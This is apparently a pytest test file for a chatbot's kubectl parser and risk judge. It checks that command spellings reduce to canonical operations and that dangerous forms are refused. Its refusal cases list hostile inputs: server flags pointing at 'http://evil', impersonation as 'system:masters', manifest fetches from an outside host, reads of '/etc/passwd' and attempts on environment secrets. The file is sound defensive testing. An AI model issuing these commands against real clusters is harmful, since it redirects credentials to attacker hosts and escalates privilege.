"""Every spelling of a kubectl command gives the same canonical operation, and no spelling hides a flag."""

from typing import Any

import pytest

from bot.core import risk
from bot.core.commands import parsing
from bot.core.operations import Operation


def parse(text: str) -> Operation:
    return parsing.parse(text, values={})


def arguments(text: str) -> dict[str, Any]:  # Any: canonical arguments are JSON
    return dict(parse(text).arguments)


@pytest.mark.parametrize(
    "text",
    [
        "kubectl get pods api -n shop -o json",
        "kubectl get pod api --namespace shop --output json",
        "kubectl get po/api --namespace=shop -ojson",
        "kubectl -n shop get pods/api -o=json",
        "kubectl get -nshop -o json pods api",
        "kubectl -n=shop get pod/api --output=json",
        "kubectl get -n other -n shop po api -o json",
        "oc get Pod api -n shop -o json",
        "/usr/local/bin/kubectl get pods.v1 api -n shop -o json",
    ],
)
def test_all_spellings_of_a_get_are_one_operation(text: str) -> None:
    operation = parse(text)
    assert operation.kind == "kubernetes.get"
    assert dict(operation.arguments) == {
        "resource": "pods",
        "names": ["api"],
        "namespace": "shop",
        "all_namespaces": False,
        "selector": "",
        "field_selector": "",
        "output": "json",
    }


@pytest.mark.parametrize(
    "resource", ["deploy/api", "deployment/api", "deployments api", "deployment.apps/api", "deployments.v1.apps/api"]
)
def test_all_spellings_of_a_resource_are_one(resource: str) -> None:
    assert arguments(f"kubectl rollout restart {resource} -n x") == {
        "resource": "deployments",
        "name": "api",
        "namespace": "x",
        "to_revision": None,
        "timeout_seconds": None,
    }


def test_the_canonical_arguments_of_each_kind() -> None:
    assert arguments("kubectl describe node n1") == {
        "resource": "nodes",
        "names": ["n1"],
        "namespace": "",
        "selector": "",
    }
    assert arguments("kubectl logs deploy/api -c web --tail=20 --since 1h30m --previous --timestamps -n x") == {
        "resource": "deployments",
        "name": "api",
        "namespace": "x",
        "container": "web",
        "all_containers": False,
        "previous": True,
        "tail": 20,
        "since_seconds": 5400,
        "timestamps": True,
        "selector": "",
        "limit_bytes": 1_048_576,
    }
    assert arguments("kubectl exec api -c web -n x -- redis-cli -h -n") == {
        "resource": "pods",
        "name": "api",
        "namespace": "x",
        "container": "web",
        "command": ["redis-cli", "-h", "-n"],
    }
    assert arguments("kubectl delete pod a b --grace-period=5") == {
        "names": ["a", "b"],
        "namespace": "",
        "selector": "",
        "all": False,
        "grace_period_seconds": 5,
        "force": False,
    }
    assert arguments("kubectl scale --replicas 3 --current-replicas=2 sts/db") == {
        "resource": "statefulsets",
        "name": "db",
        "namespace": "",
        "replicas": 3,
        "current_replicas": 2,
    }
    assert arguments("kubectl rollout undo deploy/api --to-revision=4")["to_revision"] == 4
    assert arguments("kubectl rollout status deploy api --timeout 2m")["timeout_seconds"] == 120
    assert arguments("kubectl cordon n1") == arguments("kubectl uncordon node/n1") == {"name": "n1"}
    assert arguments("kubectl top pods -A --sort-by=cpu")["sort_by"] == "cpu"
    assert parse("kubectl version").kind == "kubernetes.version"


CONNECTION = [
    "--kubeconfig=/x",
    "--kubeconfig /x",
    "--context=a",
    "--server=http://evil",
    "-s http://evil",
    "-shttp://evil",
    "-s=http://evil",
    "--token=x",
    "--as=admin",
    "--as admin",
    "--as-group=system:masters",
    "--as-uid=1",
    "--cluster=x",
    "--user=x",
    "--username=x",
    "--password=x",
    "--insecure-skip-tls-verify",
    "--insecure-skip-tls-verify=true",
    "--certificate-authority=x",
    "--client-key=x",
    "--client-certificate=x",
    "--tls-server-name=x",
    "--kubecon=/x",
    "--serv=http://evil",
    "--toke x",
]


@pytest.mark.parametrize("flag", CONNECTION)
@pytest.mark.parametrize(
    "text",
    [
        "kubectl {} get pods",
        "kubectl get {} pods",
        "kubectl get pods {}",
        "kubectl delete pod x {} -n y",
        "kubectl exec x {} -- ls",
        "kubectl {} rollout restart deploy/x",
        "kubectl rollout {} restart deploy/x",
        "kubectl scale deploy/x --replicas=1 {}",
    ],
)
def test_F74_flags_that_choose_cluster_or_identity_are_refused_everywhere(text: str, flag: str) -> None:
    judgement = risk.judge(parse(text.replace("{}", flag)))
    assert judgement.refused_because


@pytest.mark.parametrize(
    "text", ["kubectl get -wshttp://evil pods", "kubectl logs -fshttp://evil x", "kubectl exec -itshttp://evil x -- ls"]
)
def test_F74_a_refused_flag_merged_behind_switches_is_found(text: str) -> None:
    assert "--server" in risk.judge(parse(text)).refused_because


def test_behind_the_double_dash_flags_belong_to_the_command() -> None:
    operation = parse("kubectl exec x -- redis-cli --token=x -s info")
    assert operation.arguments["command"] == ["redis-cli", "--token=x", "-s", "info"]
    assert "connection" not in operation.arguments


@pytest.mark.parametrize(
    "text",
    [
        "kubectl get pods -f http://evil/x.yaml",
        "kubectl get --raw /api",
        "kubectl get pods a/b/c",
        "kubectl get pods ../x",
        "kubectl get pods 'a b'",
        "kubectl get pods A%2fB",
        "kubectl get pods x -n 'kube system'",
        "kubectl get",
        "kubectl get pods -o go-template-file=/x",
        "kubectl get pods --frobnicate",
        "kubectl delete pods",
        "kubectl delete pod x --all",
        "kubectl delete pods -l ''",
        "kubectl delete deployment",
        "kubectl delete pods --all -A",
        "kubectl delete pod x --dry-run=server",
        "kubectl rollout restart deploy a b",
        "kubectl rollout restart deploy",
        "kubectl rollout restart deploy -l app=x",
        "kubectl rollout restart pod/x",
        "kubectl scale deploy/x",
        "kubectl scale deploy/x --replicas=many",
        "kubectl scale deploy/x --replicas=-1",
        "kubectl scale deploy --all --replicas=1",
        "kubectl cordon -l a=b",
        "kubectl exec x",
        "kubectl exec x ls",
        "kubectl logs",
        "kubectl logs x --since-time=2020-01-01T00:00:00Z",
        "kubectl exec -it x -- bash",
        "kubectl exec x -- redis-cli",
        "kubectl exec x -- psql",
        "kubectl apply -f x.yaml",
        "kubectl drain n1 --disable-eviction",
        "kubectl frobnicate",
        "kubectl",
        "kubectl get pods | xargs kubectl delete pod",
        "kubectl get pods | tee x",
        "kubectl get pods | grep x /etc/passwd",
        "kubectl get pods | sort -o x",
        "kubectl get pods | jq env.SECRET",
        "kubectl get pods | jq '$ENV.SECRET'",
    ],
)
def test_what_cannot_be_run_says_why(text: str) -> None:
    judgement = risk.judge(parse(text))
    assert not judgement.is_runnable
    assert judgement.refused_because.endswith(".")


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("kubectl logs -f x --tail=5", "following"),
        ("kubectl get pods -w", "watching"),
        ("kubectl logs x", "last 500 lines"),
        ("kubectl exec -it x -- ls", "nobody can type"),
    ],
)
def test_unbounded_and_interactive_forms_become_bounded_and_say_so(text: str, reason: str) -> None:
    judgement = risk.judge(parse(text))
    assert judgement.is_runnable
    assert any(reason in said for said in judgement.reasons)


def test_a_field_called_env_is_no_environment() -> None:
    assert risk.judge(parse("kubectl get pods -o json | jq '.items[].spec.containers[].env'")).is_runnable
